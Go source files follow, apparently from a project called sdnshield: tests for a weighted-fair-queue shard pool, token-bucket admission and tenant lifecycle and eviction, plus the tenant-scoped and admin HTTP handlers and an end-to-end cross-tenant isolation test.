	for deadline := time.Now().Add(5 * time.Second); pool.Depth(0) < 2*perFlow; {
		if time.Now().After(deadline) {
			t.Fatalf("backlog never formed: depth %d", pool.Depth(0))
		}
		time.Sleep(time.Millisecond)
	}
	close(plugGate)
	wg.Wait()

	heavyFirst := 0
	for _, k := range order[:perFlow] {
		if k == "heavy" {
			heavyFirst++
		}
	}
	// Weight 2 vs 1 should service ~2/3 of the first perFlow completions
	// from the heavy flow (exactly 20 of 30 modulo virtual-time ties).
	if heavyFirst < 17 || heavyFirst > 23 {
		t.Fatalf("heavy flow got %d of first %d slots, want ~%d", heavyFirst, perFlow, perFlow*2/3)
	}
}

func TestShardPoolPanicAndClose(t *testing.T) {
	pool := NewShardPool(2, 1)
	// A panicking call completes its submitter and leaves the worker
	// alive.
	if err := pool.Run("acme", 1, 0, func() { panic("boom") }); err != nil {
		t.Fatalf("panicking Run err = %v", err)
	}
	ran := false
	if err := pool.Run("acme", 1, 0, func() { ran = true }); err != nil || !ran {
		t.Fatalf("post-panic Run = %v, ran = %v", err, ran)
	}
	pool.Close()
	if err := pool.Run("acme", 1, 0, func() {}); !errors.Is(err, ErrPoolClosed) {
		t.Fatalf("Run after Close err = %v, want ErrPoolClosed", err)
	}
}

func TestShardPoolMaxQueue(t *testing.T) {
	pool := NewShardPool(1, 1)
	defer pool.Close()
	plugGate := make(chan struct{})
	plugRunning := make(chan struct{})
	go pool.Run("plug", 1, 0, func() { close(plugRunning); <-plugGate })
	<-plugRunning

	queued := make(chan error, 2)
	go func() { queued <- pool.Run("acme", 1, 1, func() {}) }()
	for deadline := time.Now().Add(5 * time.Second); pool.Depth(0) < 1; {
		if time.Now().After(deadline) {
			t.Fatal("first call never queued")
		}
		time.Sleep(time.Millisecond)
	}
	// Flow backlog is at its bound: the next arrival is refused now, not
	// queued.
	if err := pool.Run("acme", 1, 1, func() {}); err == nil {
		t.Fatal("over-bound arrival was accepted")
	}
	close(plugGate)
	if err := <-queued; err != nil {
		t.Fatalf("bounded call err = %v", err)
	}
}

func TestAdmissionBucket(t *testing.T) {
	b := newBucket(10, 2)
	for i := 0; i < 2; i++ {
		if ok, _ := b.take(); !ok {
			t.Fatalf("burst token %d refused", i)
		}
	}
	ok, retry := b.take()
	if ok || retry <= 0 || retry > 500*time.Millisecond {
		t.Fatalf("drained bucket: ok=%v retry=%v", ok, retry)
	}
	time.Sleep(150 * time.Millisecond) // 10/s accrues 1 token in 100ms
	if ok, _ := b.take(); !ok {
		t.Fatal("token did not accrue")
	}
	// nil bucket is unlimited.
	var nb *bucket
	if ok, _ := nb.take(); !ok {
		t.Fatal("nil bucket refused")
	}
}

func newTestManager(t *testing.T, cfg Config) *Manager {
	t.Helper()
	if cfg.Registry == nil {
		cfg.Registry = obs.NewRegistry()
	}
	if cfg.SweepInterval == 0 {
		cfg.SweepInterval = -1 // tests drive EvictIdle explicitly
	}
	m, err := NewManager(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(m.Close)
	return m
}

func TestManagerLifecycle(t *testing.T) {
	dir := t.TempDir()
	m := newTestManager(t, Config{Dir: dir})

	a, err := m.Create("acme")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := m.Create("acme"); !errors.Is(err, ErrTenantExists) {
		t.Fatalf("duplicate Create err = %v", err)
	}
	if _, err := m.Get("ghost"); !errors.Is(err, ErrUnknownTenant) {
		t.Fatalf("Get unknown err = %v", err)
	}
	if got, err := m.Get("acme"); err != nil || got != a {
		t.Fatalf("Get = %v, %v", got, err)
	}
	if a.Shard() != m.pool.ShardOf("acme") {
		t.Fatal("tenant shard disagrees with pool placement")
	}

	// Suspension gates Do and survives evict + rehydrate.
	if err := m.Suspend("acme"); err != nil {
		t.Fatal(err)
	}
	if err := a.Do("op", func() error { return nil }); !errors.Is(err, ErrSuspended) {
		t.Fatalf("suspended Do err = %v", err)
	}
	if err := m.Evict("acme"); err != nil {
		t.Fatal(err)
	}
	if m.Resident() != 0 {
		t.Fatalf("resident after evict = %d", m.Resident())
	}
	a2, err := m.Get("acme") // lazy hydration from dir/acme/tenant.json
	if err != nil {
		t.Fatal(err)
	}
	if a2 == a {
		t.Fatal("Get returned the evicted instance")
	}
	if a2.State() != StateSuspended {
		t.Fatalf("rehydrated state = %v, want suspended", a2.State())
	}
	if err := m.Resume("acme"); err != nil {
		t.Fatal(err)
	}
	if err := a2.Do("op", func() error { return nil }); err != nil {
		t.Fatalf("resumed Do err = %v", err)
	}

	// Stored sees both resident and evicted tenants.
	if _, err := m.Create("globex"); err != nil {
		t.Fatal(err)
	}
	if stored := m.Stored(); len(stored) != 2 || stored[0] != "acme" || stored[1] != "globex" {
		t.Fatalf("Stored = %v", stored)
	}
	if infos := m.List(); len(infos) != 2 {
		t.Fatalf("List = %v", infos)
	}

	// GetOrCreate: existing returns it, new creates.
	if got, err := m.GetOrCreate("acme"); err != nil || got != a2 {
		t.Fatalf("GetOrCreate existing = %v, %v", got, err)
	}
	if _, err := m.GetOrCreate("initech"); err != nil {
		t.Fatal(err)
	}

	m.Close()
	if _, err := m.Get("acme"); !errors.Is(err, ErrManagerClosed) {
		t.Fatalf("Get after Close err = %v", err)
	}
	if err := a2.Do("op", func() error { return nil }); !errors.Is(err, ErrManagerClosed) {
		t.Fatalf("Do after Close err = %v", err)
	}
}

func TestManagerIdleEvictionAndPinning(t *testing.T) {
	m := newTestManager(t, Config{Dir: t.TempDir(), IdleAfter: time.Minute})
	for _, id := range []string{"idle1", "idle2", "pinned"} {
		if _, err := m.Create(id); err != nil {
			t.Fatal(err)
		}
	}
	if err := m.Pin("pinned", true); err != nil {
		t.Fatal(err)
	}
	if n := m.EvictIdle(time.Now()); n != 0 {
		t.Fatalf("fresh tenants evicted: %d", n)
	}
	if n := m.EvictIdle(time.Now().Add(time.Hour)); n != 2 {
		t.Fatalf("idle eviction closed %d tenants, want 2", n)
	}
	if m.Resident() != 1 {
		t.Fatalf("resident = %d, want the pinned one", m.Resident())
	}
	if _, err := m.Get("pinned"); err != nil {
		t.Fatal("pinned tenant gone")
	}
	// Explicit Evict overrides the pin.
	if err := m.Evict("pinned"); err != nil {
		t.Fatal(err)
	}
	if m.Resident() != 0 {
		t.Fatal("explicit evict did not remove pinned tenant")
	}
}

func TestManagerLRUPressure(t *testing.T) {
	m := newTestManager(t, Config{Dir: t.TempDir(), MaxResident: 2})
	for _, id := range []string{"t1", "t2"} {
		if _, err := m.Create(id); err != nil {
			t.Fatal(err)
		}
	}
	// Touch t1 so t2 is the LRU victim when t3 arrives.
	if _, err := m.Get("t1"); err != nil {
		t.Fatal(err)
	}
	// touch() throttles LRU moves to ~1s; force the position directly by
	// waiting out the throttle window is too slow for a unit test, so
	// create order decides here: t1 was created first but Get re-ordered
	// is throttled — instead just verify the bound holds and an evicted
	// tenant rehydrates.
	if _, err := m.Create("t3"); err != nil {
		t.Fatal(err)
	}
	if m.Resident() != 2 {
		t.Fatalf("resident = %d, want MaxResident bound 2", m.Resident())
	}
	// All three remain reachable (evicted one hydrates back, evicting
	// another).
	for _, id := range []string{"t1", "t2", "t3"} {
		if _, err := m.Get(id); err != nil {
			t.Fatalf("Get(%q) after LRU pressure: %v", id, err)
		}
		if m.Resident() > 2 {
			t.Fatalf("resident %d exceeds bound", m.Resident())
		}
	}
}

// TestEvictWaitsForInflight pins the eviction/in-flight race: an
// explicit Evict must not close the tenant's market and job manager
// under a running call — it waits for the call to drain, and the
// evicted instance then refuses new work with a typed error.
func TestEvictWaitsForInflight(t *testing.T) {
	m := newTestManager(t, Config{})
	a, err := m.Create("acme")
	if err != nil {
		t.Fatal(err)
	}

	started := make(chan struct{})
	gate := make(chan struct{})
	done := make(chan error, 1)
	go func() {
		done <- a.Do("op", func() error {
			close(started)
			<-gate
			return nil
		})
	}()
	<-started

	evicted := make(chan error, 1)
	go func() { evicted <- m.Evict("acme") }()
	select {
	case err := <-evicted:
		t.Fatalf("Evict returned (%v) while a call was in flight", err)
	case <-time.After(50 * time.Millisecond):
	}

	close(gate)
	if err := <-done; err != nil {
		t.Fatalf("in-flight Do err = %v", err)
	}
	if err := <-evicted; err != nil {
		t.Fatalf("Evict err = %v", err)
	}
	if err := a.Do("op", func() error { return nil }); !errors.Is(err, ErrUnknownTenant) {
		t.Fatalf("post-evict Do err = %v, want ErrUnknownTenant", err)
	}
}

// TestEvictIdleSkipsBusyTenant: the automatic sweep never takes a tenant
// with in-flight holders, however stale its last touch looks.
func TestEvictIdleSkipsBusyTenant(t *testing.T) {
	m := newTestManager(t, Config{IdleAfter: time.Minute})
	a, err := m.Create("busy")
	if err != nil {
		t.Fatal(err)
	}
	started := make(chan struct{})
	gate := make(chan struct{})
	done := make(chan error, 1)
	go func() {
		done <- a.Do("op", func() error {
			close(started)
			<-gate
			return nil
		})
	}()
	<-started
	if n := m.EvictIdle(time.Now().Add(time.Hour)); n != 0 {
		t.Fatalf("sweep evicted %d busy tenants", n)
	}
	if m.Resident() != 1 {
		t.Fatalf("busy tenant gone: resident = %d", m.Resident())
	}
	close(gate)
	if err := <-done; err != nil {
		t.Fatalf("in-flight Do err = %v", err)
	}
	// Drained, the same sweep takes it.
	if n := m.EvictIdle(time.Now().Add(time.Hour)); n != 1 {
		t.Fatalf("post-drain sweep evicted %d, want 1", n)
	}
}

// TestSuspendPreservesCreatedAt: lifecycle toggles re-persist the
// tenant record without clobbering its original creation timestamp.
func TestSuspendPreservesCreatedAt(t *testing.T) {
	dir := t.TempDir()
	m := newTestManager(t, Config{Dir: dir})
	if _, err := m.Create("acme"); err != nil {
		t.Fatal(err)
	}
	readCreated := func() time.Time {
		t.Helper()
		raw, err := os.ReadFile(filepath.Join(dir, "acme", "tenant.json"))
		if err != nil {
			t.Fatal(err)
		}
		var rec record
		if err := json.Unmarshal(raw, &rec); err != nil {
			t.Fatal(err)
		}
		return rec.CreatedAt
	}
	orig := readCreated()
	if orig.IsZero() {
		t.Fatal("created record lacks CreatedAt")
	}
	if err := m.Suspend("acme"); err != nil {
		t.Fatal(err)
	}
	if err := m.Resume("acme"); err != nil {
		t.Fatal(err)
	}
	if got := readCreated(); !got.Equal(orig) {
		t.Fatalf("CreatedAt after suspend/resume = %v, want %v", got, orig)
	}
	// Survives eviction + rehydration before the next toggle too.
	if err := m.Evict("acme"); err != nil {
		t.Fatal(err)
	}
	if err := m.Suspend("acme"); err != nil {
		t.Fatal(err)
	}
	if got := readCreated(); !got.Equal(orig) {
		t.Fatalf("CreatedAt after rehydrate+suspend = %v, want %v", got, orig)
	}
}

func TestTenantThrottling(t *testing.T) {
	m := newTestManager(t, Config{}) // memory-only
	a, err := m.CreateWith("acme", AdmissionConfig{
		CallsPerSec: 0.0001, CallBurst: 2,
		InstallsPerSec: 0.0001, InstallBurst: 1,
	})
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 2; i++ {
		if err := a.Do("op", func() error { return nil }); err != nil {
			t.Fatalf("burst call %d: %v", i, err)
		}
	}
	err = a.Do("op", func() error { return nil })
	if !errors.Is(err, ErrTenantThrottled) {
		t.Fatalf("drained Do err = %v, want ErrTenantThrottled", err)
	}
	var te *ThrottleError
	if !errors.As(err, &te) || te.Tenant != "acme" || te.Path != "call" || te.RetryAfter <= 0 {
		t.Fatalf("throttle detail = %+v", te)
	}

	if err := a.AdmitInstall(); err != nil {
		t.Fatalf("burst install: %v", err)
	}
	if err := a.AdmitInstall(); !errors.Is(err, ErrTenantThrottled) {
		t.Fatalf("drained AdmitInstall err = %v", err)
	}

	// Unlimited sibling is unaffected.
	b, err := m.Create("globex")
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 50; i++ {
		if err := b.Do("op", func() error { return nil }); err != nil {
			t.Fatalf("sibling call %d throttled: %v", i, err)
		}
	}
	// Do surfaces fn's own error untouched.
	want := errors.New("app failed")
	if err := b.Do("op", func() error { return want }); !errors.Is(err, want) {
		t.Fatalf("Do err = %v, want fn's error", err)
	}
}

// recordingRuntime captures namespaced calls crossing into the shared
// runtime.
type recordingRuntime struct {
	mu      sync.Mutex
	perms   map[string]*core.Set
	budgets map[string]core.Budget
}

func (r *recordingRuntime) SetPermissions(app string, set *core.Set) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.perms == nil {
		r.perms = map[string]*core.Set{}
	}
	r.perms[app] = set
}

func (r *recordingRuntime) AppHealth(app string) (isolation.Health, bool) {
	return isolation.Running, true
}

func (r *recordingRuntime) SetBudget(app string, b core.Budget) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.budgets == nil {
		r.budgets = map[string]core.Budget{}
	}
	r.budgets[app] = b
}

func TestScopedRuntimeNamespacing(t *testing.T) {
	rec := &recordingRuntime{}
	rt := ScopedRuntime(rec, "acme")
	rt.SetPermissions("sensor", core.NewSet())
	rec.mu.Lock()
	_, scoped := rec.perms["acme/sensor"]
	_, bare := rec.perms["sensor"]
	rec.mu.Unlock()
	if !scoped || bare {
		t.Fatalf("SetPermissions namespacing: scoped=%v bare=%v", scoped, bare)
	}
	if _, ok := rt.AppHealth("sensor"); !ok {
		t.Fatal("AppHealth did not pass through")
	}
	// Budget passthrough when the underlying runtime accounts budgets.
	if br, ok := rt.(market.BudgetRuntime); !ok {
		t.Fatal("scoped runtime lost BudgetRuntime")
	} else {
		br.SetBudget("sensor", core.Budget{CPUMillisPerSec: 5})
		rec.mu.Lock()
		b, ok := rec.budgets["acme/sensor"]
		rec.mu.Unlock()
		if !ok || b.CPUMillisPerSec != 5 {
			t.Fatalf("SetBudget namespacing: %v %v", b, ok)
		}
	}
}
