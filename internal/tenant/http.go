package tenant

import (
	"crypto/subtle"
	"encoding/json"
	"errors"
	"fmt"
	"math"
	"net/http"
	"strconv"
	"strings"

	"sdnshield/internal/market"
	"sdnshield/internal/obs"
	"sdnshield/internal/obs/audit"
	"sdnshield/internal/obs/recorder"
	"sdnshield/internal/obs/span"
)

// MountHTTP hangs the tenancy surface off the obs introspection server:
//
//	/t/<tenant>/market/...  the tenant's full market surface
//	/t/<tenant>/audit       the tenant's audit slice
//	/t/<tenant>/trace[/id]  the tenant's span traces
//	/t/<tenant>/apps        the tenant's recorder usage
//	/t/<tenant>/jobs        the tenant's job queues + dead-letter counts
//	/t/<tenant>/            the tenant's snapshot
//	/tenants                admin: list (GET), lifecycle ops (POST)
//	/tenants/shards         admin: per-shard WFQ scheduling telemetry
//
// Every scoped route requires the X-Sdnshield-Tenant header to agree
// with the path (absence is a 401 — the header is the hand-off point
// for a trusted front proxy's authentication, see HeaderTenant) and
// enforces install-path admission before any per-call work happens.
// When Config.AdminToken is set, /tenants and /tenants/shards
// additionally require "Authorization: Bearer <token>".
func MountHTTP(m *Manager) {
	obs.RegisterHandler(PathPrefix, &scopedHandler{m: m})
	obs.RegisterHandler("/tenants", &adminHandler{m: m})
	obs.RegisterHandler("/tenants/shards", &shardsHandler{m: m})
}

func writeJSON(w http.ResponseWriter, status int, v interface{}) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	_ = enc.Encode(v)
}

// httpStatus maps tenancy errors onto HTTP statuses.
func httpStatus(err error) int {
	switch {
	case errors.Is(err, ErrTenantThrottled):
		return http.StatusTooManyRequests
	case errors.Is(err, ErrBadTenantID), errors.Is(err, ErrTenantMismatch):
		return http.StatusBadRequest
	case errors.Is(err, ErrNoTenantHeader), errors.Is(err, ErrNotAdmin):
		return http.StatusUnauthorized
	case errors.Is(err, ErrUnknownTenant):
		return http.StatusNotFound
	case errors.Is(err, ErrTenantExists):
		return http.StatusConflict
	case errors.Is(err, ErrSuspended), errors.Is(err, ErrManagerClosed):
		return http.StatusServiceUnavailable
	default:
		return http.StatusInternalServerError
	}
}

func writeError(w http.ResponseWriter, err error) {
	writeJSON(w, httpStatus(err), map[string]string{"error": err.Error()})
}

// writeThrottle answers an admission refusal: 429 with a Retry-After
// header (whole seconds, rounded up) and the refusal detail.
func writeThrottle(w http.ResponseWriter, te *ThrottleError) {
	secs := int(math.Ceil(te.RetryAfter.Seconds()))
	if secs < 1 {
		secs = 1
	}
	w.Header().Set("Retry-After", strconv.Itoa(secs))
	writeJSON(w, http.StatusTooManyRequests, map[string]interface{}{
		"error":          "tenant throttled",
		"tenant":         te.Tenant,
		"path":           te.Path,
		"retry_after_ms": te.RetryAfter.Milliseconds(),
	})
}

// installPaths are the scoped routes that spend an install token before
// dispatch — the mutation half of the market surface.
var installPaths = map[string]bool{
	"/market/install":   true,
	"/market/upgrade":   true,
	"/market/recompute": true,
}

// scopedHandler serves /t/<tenant>/... by resolving the tenant (lazily
// hydrating it), enforcing identity and admission, then dispatching the
// remaining path on the tenant's own mux.
type scopedHandler struct {
	m *Manager
}

func (h *scopedHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	id, rest, err := FromRequest(r)
	if err != nil {
		writeError(w, err)
		return
	}
	t, release, err := h.m.Acquire(id)
	if err != nil {
		writeError(w, err)
		return
	}
	defer release()
	if t.State() != StateActive {
		w.Header().Set("X-Sdnshield-Tenant-State", string(StateSuspended))
		writeError(w, fmt.Errorf("%w: %s", ErrSuspended, id))
		return
	}

	// Trace ingress. The header is client-controlled, so it may only
	// continue a trace the collector already tags with this tenant —
	// anything else (unknown, untagged, or another tenant's ID) is
	// dropped and replaced with a fresh tenant-tagged root. Inbound IDs
	// never take ownership of a trace and never materialize collector
	// entries, so trace IDs stay unguessable-in-effect even though they
	// are sequential audit correlation values.
	pc, ok := span.Parse(r.Header.Get(span.Header))
	if !ok || span.TenantOf(pc.TraceID) != id {
		r.Header.Del(span.Header)
		if sp := span.Root(audit.NextCorr(), "tenant:"+id); sp != nil {
			sc := sp.Context()
			span.Tag(sc.TraceID, id)
			r.Header.Set(span.Header, sc.String())
			defer sp.End()
		}
	}

	// Install-path admission: hard refusal before the market handler
	// allocates anything.
	if r.Method == http.MethodPost && installPaths[rest] {
		if err := t.AdmitInstall(); err != nil {
			var te *ThrottleError
			if errors.As(err, &te) {
				writeThrottle(w, te)
				return
			}
			writeError(w, err)
			return
		}
	}

	r2 := r.Clone(r.Context())
	r2.URL.Path = rest
	t.handler().ServeHTTP(w, r2)
}

// handler returns the tenant's scoped mux, building it on first use.
func (t *Tenant) handler() http.Handler {
	t.mu.Lock()
	defer t.mu.Unlock()
	if t.mux == nil {
		t.mux = t.buildMux()
	}
	return t.mux
}

func (t *Tenant) buildMux() http.Handler {
	mux := http.NewServeMux()
	for pattern, h := range market.Routes(t.mkt) {
		mux.Handle(pattern, h)
	}
	id := t.ID

	// The tenant's audit slice. The Tenant filter is forced server-side;
	// ?app= matches both the market's plain app names and the runtime's
	// namespaced "tenant/app" form.
	mux.HandleFunc("/audit", func(w http.ResponseWriter, r *http.Request) {
		q := r.URL.Query()
		f := audit.Filter{Tenant: id}
		if c := q.Get("corr"); c != "" {
			v, err := strconv.ParseUint(c, 10, 64)
			if err != nil {
				// Match the shared audit surface: a malformed filter is a
				// refusal, never a silent widening to the whole slice.
				writeJSON(w, http.StatusBadRequest, map[string]string{"error": "bad corr: " + err.Error()})
				return
			}
			f.Corr = v
		}
		events := audit.Default().Query(f)
		if app := q.Get("app"); app != "" {
			scoped := id + "/" + app
			kept := events[:0]
			for _, ev := range events {
				if ev.App == app || ev.App == scoped {
					kept = append(kept, ev)
				}
			}
			events = kept
		}
		if ls := q.Get("limit"); ls != "" {
			if n, err := strconv.Atoi(ls); err == nil && n > 0 && n < len(events) {
				events = events[len(events)-n:]
			}
		}
		if events == nil {
			events = []audit.Event{}
		}
		writeJSON(w, http.StatusOK, map[string]interface{}{
			"tenant": id, "count": len(events), "events": events,
		})
	})

	// The tenant's retained traces.
	mux.HandleFunc("/trace", func(w http.ResponseWriter, r *http.Request) {
		all := span.DefaultCollector().TraceIDs()
		mine := []span.TraceInfo{}
		for _, ti := range all {
			if ti.Tenant == id {
				mine = append(mine, ti)
			}
		}
		writeJSON(w, http.StatusOK, map[string]interface{}{
			"tenant": id, "count": len(mine), "traces": mine,
		})
	})
	mux.HandleFunc("/trace/", func(w http.ResponseWriter, r *http.Request) {
		raw := strings.TrimPrefix(r.URL.Path, "/trace/")
		tid, err := strconv.ParseUint(raw, 10, 64)
		if err != nil || tid == 0 {
			writeJSON(w, http.StatusBadRequest, map[string]string{"error": "bad trace id"})
			return
		}
		if span.TenantOf(tid) != id {
			// Another tenant's trace (or unknown) is indistinguishable
			// from absent — no cross-tenant existence oracle.
			writeJSON(w, http.StatusNotFound, map[string]string{"error": "no such trace"})
			return
		}
		writeJSON(w, http.StatusOK, map[string]interface{}{
			"trace_id": tid, "tenant": id,
			"spans": span.DefaultCollector().Trace(tid),
		})
	})

	// The tenant's recorder usage: the shared /apps surface with the
	// tenant filter forced (the recorder sees namespaced app keys).
	apps := recorder.Apps()
	mux.HandleFunc("/apps", func(w http.ResponseWriter, r *http.Request) {
		r2 := r.Clone(r.Context())
		q := r2.URL.Query()
		q.Set("tenant", id)
		r2.URL.RawQuery = q.Encode()
		apps.ServeHTTP(w, r2)
	})

	// The tenant's job spine: queue stats plus its dead-letter counts.
	mux.HandleFunc("/jobs", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, http.StatusOK, map[string]interface{}{
			"tenant":         id,
			"queues":         t.jm.Stats(),
			"dead_by_tenant": t.jm.DeadByTenant(),
		})
	})

	// The tenant's snapshot at its scoped root.
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			http.NotFound(w, r)
			return
		}
		writeJSON(w, http.StatusOK, t.Info())
	})
	return mux
}

// shardsHandler serves /tenants/shards: the WFQ scheduling telemetry —
// per-shard queue depth, backlogged flows, cumulative throughput,
// virtual-time lag, backlog residency — plus the pool-wide imbalance
// gauge. Same bearer gate as /tenants: shard state reveals the shape of
// every tenant's load, so it is admin surface.
type shardsHandler struct {
	m *Manager
}

func (h *shardsHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if !(&adminHandler{m: h.m}).authorized(r) {
		w.Header().Set("WWW-Authenticate", "Bearer")
		writeError(w, ErrNotAdmin)
		return
	}
	if r.Method != http.MethodGet {
		w.Header().Set("Allow", "GET")
		writeJSON(w, http.StatusMethodNotAllowed, map[string]string{"error": "method not allowed"})
		return
	}
	writeJSON(w, http.StatusOK, map[string]interface{}{
		"shards":    h.m.pool.ShardStats(),
		"imbalance": h.m.pool.Imbalance(),
	})
}

// adminHandler serves /tenants: GET lists resident and stored tenants,
// POST drives the lifecycle.
type adminHandler struct {
	m *Manager
}

// adminOp is one POST /tenants request.
type adminOp struct {
	Op        string           `json:"op"` // create|suspend|resume|evict|pin|unpin
	Tenant    string           `json:"tenant"`
	Admission *AdmissionConfig `json:"admission,omitempty"` // create only
}

// authorized checks the admin bearer token when one is configured; an
// empty AdminToken leaves /tenants open (dev mode — see DESIGN.md §16
// for the deployment trust model).
func (h *adminHandler) authorized(r *http.Request) bool {
	tok := h.m.cfg.AdminToken
	if tok == "" {
		return true
	}
	got := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
	return subtle.ConstantTimeCompare([]byte(got), []byte(tok)) == 1
}

func (h *adminHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if !h.authorized(r) {
		w.Header().Set("WWW-Authenticate", "Bearer")
		writeError(w, ErrNotAdmin)
		return
	}
	switch r.Method {
	case http.MethodGet:
		stored := h.m.Stored()
		if stored == nil {
			stored = []string{}
		}
		writeJSON(w, http.StatusOK, map[string]interface{}{
			"resident": h.m.List(),
			"stored":   stored,
		})
	case http.MethodPost:
		var op adminOp
		if err := json.NewDecoder(r.Body).Decode(&op); err != nil {
			writeJSON(w, http.StatusBadRequest, map[string]string{"error": "bad request body: " + err.Error()})
			return
		}
		var err error
		switch op.Op {
		case "create":
			var t *Tenant
			if op.Admission != nil {
				t, err = h.m.CreateWith(op.Tenant, *op.Admission)
			} else {
				t, err = h.m.Create(op.Tenant)
			}
			if err == nil {
				writeJSON(w, http.StatusCreated, t.Info())
				return
			}
		case "suspend":
			err = h.m.Suspend(op.Tenant)
		case "resume":
			err = h.m.Resume(op.Tenant)
		case "evict":
			err = h.m.Evict(op.Tenant)
		case "pin":
			err = h.m.Pin(op.Tenant, true)
		case "unpin":
			err = h.m.Pin(op.Tenant, false)
		default:
			writeJSON(w, http.StatusBadRequest, map[string]string{"error": "unknown op " + strconv.Quote(op.Op)})
			return
		}
		if err != nil {
			writeError(w, err)
			return
		}
		writeJSON(w, http.StatusOK, map[string]string{"ok": op.Op, "tenant": op.Tenant})
	default:
		w.Header().Set("Allow", "GET, POST")
		writeJSON(w, http.StatusMethodNotAllowed, map[string]string{"error": "method not allowed"})
	}
}
