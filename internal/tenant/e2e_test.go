package tenant

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"sdnshield/internal/jobs"
	"sdnshield/internal/market"
	"sdnshield/internal/obs"
	"sdnshield/internal/obs/span"
)

// TestCrossTenantIsolation is the acceptance scenario: two tenants on
// one manager, and every surface tenant A touches — installs, audit
// events, traces, recorder state — is invisible through tenant B's
// scoped view, while B exhausting its quota never throttles A or moves
// A's SLO off "ok".
func TestCrossTenantIsolation(t *testing.T) {
	prevSpan := span.SetEnabled(true)
	defer span.SetEnabled(prevSpan)

	shared := &recordingRuntime{}
	reg := obs.NewRegistry()
	m := newTestManager(t, Config{
		Dir:       t.TempDir(),
		PolicySrc: testPolicy,
		Runtime:   func(id string) market.Runtime { return shared },
		Registry:  reg,
	})
	scoped := &scopedHandler{m: m}

	ta, err := m.Create("alpha")
	if err != nil {
		t.Fatal(err)
	}
	tb, err := m.CreateWith("bravo", AdmissionConfig{CallsPerSec: 0.0001, CallBurst: 3})
	if err != nil {
		t.Fatal(err)
	}

	pub, priv := genKey(t)
	for _, tt := range []*Tenant{ta, tb} {
		if err := tt.Market().Registry().TrustVendor("acme", pub); err != nil {
			t.Fatal(err)
		}
	}
	installApp(t, scoped, "alpha", "sensor", "1.0.0", priv)
	installApp(t, scoped, "bravo", "telemetry", "1.0.0", priv)

	// --- Market isolation: each tenant sees only its own catalog.
	appsOf := func(tenant string) string {
		w := do(t, scoped, "GET", "/t/"+tenant+"/market/apps", nil, nil)
		if w.Code != http.StatusOK {
			t.Fatalf("apps(%s) = %d", tenant, w.Code)
		}
		return w.Body.String()
	}
	if body := appsOf("bravo"); strings.Contains(body, "sensor") {
		t.Fatalf("bravo sees alpha's app: %s", body)
	}
	if body := appsOf("alpha"); strings.Contains(body, "telemetry") {
		t.Fatalf("alpha sees bravo's app: %s", body)
	}

	// --- Runtime namespacing: the shared runtime was crossed into with
	// tenant-prefixed names only.
	shared.mu.Lock()
	_, alphaScoped := shared.perms["alpha/sensor"]
	_, bare := shared.perms["sensor"]
	shared.mu.Unlock()
	if !alphaScoped || bare {
		t.Fatalf("runtime namespacing: alpha/sensor=%v sensor=%v", alphaScoped, bare)
	}

	// --- Audit isolation: alpha's install trail is absent from bravo's
	// scoped journal (and vice versa bravo's own slice is intact).
	waitAuditEvent(t, scoped, "alpha", "install")
	w := do(t, scoped, "GET", "/t/bravo/audit", nil, nil)
	if strings.Contains(w.Body.String(), "sensor") {
		t.Fatalf("bravo's audit leaks alpha events: %s", w.Body.String())
	}
	if !strings.Contains(w.Body.String(), "telemetry") {
		t.Fatalf("bravo's audit lost its own events: %s", w.Body.String())
	}

	// --- Trace isolation: alpha's retained traces 404 through bravo's
	// scoped view (indistinguishable from absent).
	var traceIdx struct {
		Traces []span.TraceInfo `json:"traces"`
	}
	w = do(t, scoped, "GET", "/t/alpha/trace", nil, nil)
	if err := json.Unmarshal(w.Body.Bytes(), &traceIdx); err != nil || len(traceIdx.Traces) == 0 {
		t.Fatalf("alpha has no retained traces: %v %s", err, w.Body.String())
	}
	id := traceIdx.Traces[0].TraceID
	if w = do(t, scoped, "GET", fmt.Sprintf("/t/alpha/trace/%d", id), nil, nil); w.Code != http.StatusOK {
		t.Fatalf("alpha's own trace = %d", w.Code)
	}
	if w = do(t, scoped, "GET", fmt.Sprintf("/t/bravo/trace/%d", id), nil, nil); w.Code != http.StatusNotFound {
		t.Fatalf("bravo reads alpha's trace: %d %s", w.Code, w.Body.String())
	}
	w = do(t, scoped, "GET", "/t/bravo/trace", nil, nil)
	if strings.Contains(w.Body.String(), fmt.Sprintf("%d", id)) {
		t.Fatalf("bravo's trace index lists alpha's trace: %s", w.Body.String())
	}

	// --- Noisy neighbour: bravo burns through its call quota and gets
	// the typed refusal; alpha is untouched and its SLO stays ok.
	eng := obs.NewEngine(obs.EngineConfig{}, ta.LatencyObjective(time.Second, 0.99))
	t0 := time.Now()
	eng.Evaluate(t0)

	var throttled *ThrottleError
	for i := 0; i < 10; i++ {
		if err := tb.Do("op", func() error { return nil }); err != nil {
			if !errors.As(err, &throttled) {
				t.Fatalf("bravo refusal not typed: %v", err)
			}
			break
		}
	}
	if throttled == nil {
		t.Fatal("bravo never throttled")
	}
	if !errors.Is(error(throttled), ErrTenantThrottled) || throttled.RetryAfter <= 0 {
		t.Fatalf("throttle detail = %+v", throttled)
	}

	for i := 0; i < 20; i++ {
		if err := ta.Do("op", func() error { return nil }); err != nil {
			t.Fatalf("alpha call %d throttled by bravo's exhaustion: %v", i, err)
		}
	}
	st := eng.Evaluate(t0.Add(time.Minute))
	if len(st) != 1 || st[0].State != obs.StateOK {
		t.Fatalf("alpha SLO = %+v, want state ok", st)
	}
	// Alpha's own metrics saw no refusals.
	if n := ta.met.throttledCalls.Value(); n != 0 {
		t.Fatalf("alpha throttled count = %d", n)
	}
}

// TestDrainAllCoversTenantJobs is the shutdown regression: per-tenant
// job managers register in the process-wide open set, so the CLIs' one
